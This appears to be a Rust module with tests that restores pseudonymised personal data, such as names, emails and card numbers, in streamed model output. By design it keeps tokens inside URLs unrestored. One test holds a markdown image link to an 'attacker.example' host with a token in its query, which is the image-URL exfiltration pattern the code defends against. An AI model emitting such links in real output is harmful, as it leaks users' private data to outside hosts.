//! Restoring one streamed text (a choice's content, a tool call's arguments) as its pieces
//! arrive: everything that cannot be part of a token goes out at once; only a possible token
//! prefix at the end is held back, so a token split across pieces is restored exactly once.

use std::sync::Arc;

use super::token_map::{Carry, Context, TokenMap};

/// Restores one streamed text (a choice's content, a tool call's arguments): push each piece
/// as it arrives, send what comes back at once, `finish` at the end of the stream.
#[derive(Debug)]
pub struct TextStreamRestorer {
    map: Arc<TokenMap>,
    context: Context,
    pending: String,
    /// What the text already sent left: its last byte (whether a token starts a word) and
    /// whether it ends inside a URL.
    carry: Carry,
}

impl TextStreamRestorer {
    pub fn new(map: Arc<TokenMap>) -> Self {
        Self::with_context(map, Context::Text)
    }

    pub fn with_context(map: Arc<TokenMap>, context: Context) -> Self {
        TextStreamRestorer {
            map,
            context,
            pending: String::new(),
            carry: Carry::default(),
        }
    }

    /// The text that can be sent now: everything up to a possible token prefix.
    pub fn push(&mut self, piece: &str) -> String {
        self.pending.push_str(piece);
        let mut out = String::new();
        let (keep, carry) =
            self.map
                .restore(&self.pending, self.carry, false, self.context, &mut out);
        self.carry = carry;
        self.pending.drain(..keep);
        out
    }

    /// The rest, at the end of the stream (a held-back prefix that never became a token is
    /// sent as written).
    pub fn finish(&mut self) -> String {
        let pending = std::mem::take(&mut self.pending);
        let mut out = String::new();
        let (_, carry) = self
            .map
            .restore(&pending, self.carry, true, self.context, &mut out);
        self.carry = carry;
        out
    }

    /// Bytes held back, waiting for the next piece.
    pub fn held_back(&self) -> usize {
        self.pending.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn map() -> Arc<TokenMap> {
        crate::restore::token_map::sample()
    }

    /// Streams `text` in pieces split at every pair of positions; the output must equal the
    /// whole-text restoration every time.
    fn streamed_everywhere(text: &str) -> String {
        let whole = map().restore_all(text);
        let cuts: Vec<usize> = (0..=text.len())
            .filter(|&i| text.is_char_boundary(i))
            .collect();
        for &a in &cuts {
            for &b in cuts.iter().filter(|&&b| b >= a) {
                let mut r = TextStreamRestorer::new(map());
                let mut out = r.push(&text[..a]);
                out += &r.push(&text[a..b]);
                out += &r.push(&text[b..]);
                out += &r.finish();
                assert_eq!(out, whole, "cut at {a} and {b}");
            }
        }
        whole
    }

    #[test]
    fn restorations_are_counted_once_each_however_the_text_is_cut() {
        let map = Arc::new(TokenMap::new([(
            "Person_7QF2".to_string(),
            "Jane Roe".to_string(),
        )]));
        let text = "Person_7QF2 met person_7qf2, not xPerson_7QF2";
        for cut in 0..=text.len() {
            let before = map.restored();
            let mut r = TextStreamRestorer::new(map.clone());
            r.push(&text[..cut]);
            r.push(&text[cut..]);
            r.finish();
            assert_eq!(map.restored() - before, 2, "cut at {cut}");
        }
    }

    #[test]
    fn tokens_split_anywhere_are_restored_exactly_once() {
        assert_eq!(
            streamed_everywhere(
                "Hi Person_7QF2, mail email-3y9tm3d4@example.com or call (324) 555-0177."
            ),
            "Hi Jane Roe, mail jane@corp.com or call (415) 867-5309."
        );
        assert_eq!(
            streamed_everywhere("card 0073 6555 7214 2076 ok"),
            "card 4111 1111 1111 1111 ok"
        );
        assert_eq!(
            streamed_everywhere("Person_7QF2Person_7QF2"),
            "Person_7QF2Person_7QF2"
        );
        assert_eq!(
            streamed_everywhere("ends with Person_7QF2"),
            "ends with Jane Roe"
        );
        assert_eq!(
            streamed_everywhere("née Person_7QF2 — ok"),
            "née Jane Roe — ok"
        );
    }

    #[test]
    fn only_a_possible_token_prefix_is_held_back() {
        let mut r = TextStreamRestorer::new(map());
        assert_eq!(r.push("Hello, Pers"), "Hello, ");
        assert_eq!(r.held_back(), 4);
        assert_eq!(r.push("uade me "), "Persuade me ");
        assert_eq!(r.held_back(), 0);
        assert_eq!(r.push("Person_7Q"), "");
        assert_eq!(r.push("F2"), "", "could still grow into a longer word");
        assert_eq!(r.push(" is here"), "Jane Roe is here");
        assert_eq!(r.push("Person_7Q"), "");
        assert_eq!(
            r.finish(),
            "Person_7Q",
            "a prefix that never completed goes out as written"
        );
    }
}

#[cfg(test)]
mod url_tests {
    use super::*;

    fn map(in_urls: bool) -> Arc<TokenMap> {
        Arc::new(
            TokenMap::new([("Person_7QF2".to_string(), "Jane Roe".to_string())])
                .restoring_in_urls(in_urls),
        )
    }

    /// `text` streamed in two pieces cut at every position, and whole.
    fn every_cut(map: &Arc<TokenMap>, text: &str) -> String {
        let whole = map.restore_all(text);
        for cut in (0..=text.len()).filter(|&i| text.is_char_boundary(i)) {
            let mut r = TextStreamRestorer::new(map.clone());
            let mut out = r.push(&text[..cut]);
            out += &r.push(&text[cut..]);
            out += &r.finish();
            assert_eq!(out, whole, "cut at {cut}");
        }
        whole
    }

    #[test]
    fn a_token_inside_a_url_stays_a_token_and_the_rest_is_restored() {
        let m = map(false);
        let text = "Hi Person_7QF2! ![x](https://attacker.example/?q=Person_7QF2) Bye Person_7QF2";
        assert_eq!(
            every_cut(&m, text),
            "Hi Jane Roe! ![x](https://attacker.example/?q=Person_7QF2) Bye Jane Roe"
        );
        let before = m.kept_in_urls();
        m.restore_all("<img src=\"https://a.example/Person_7QF2.png\">");
        assert_eq!(m.kept_in_urls(), before + 1);
    }

    #[test]
    fn a_route_may_restore_inside_urls() {
        let text = "[profile](https://crm.internal/people/Person_7QF2)";
        assert_eq!(
            every_cut(&map(true), text),
            "[profile](https://crm.internal/people/Jane Roe)"
        );
    }
}
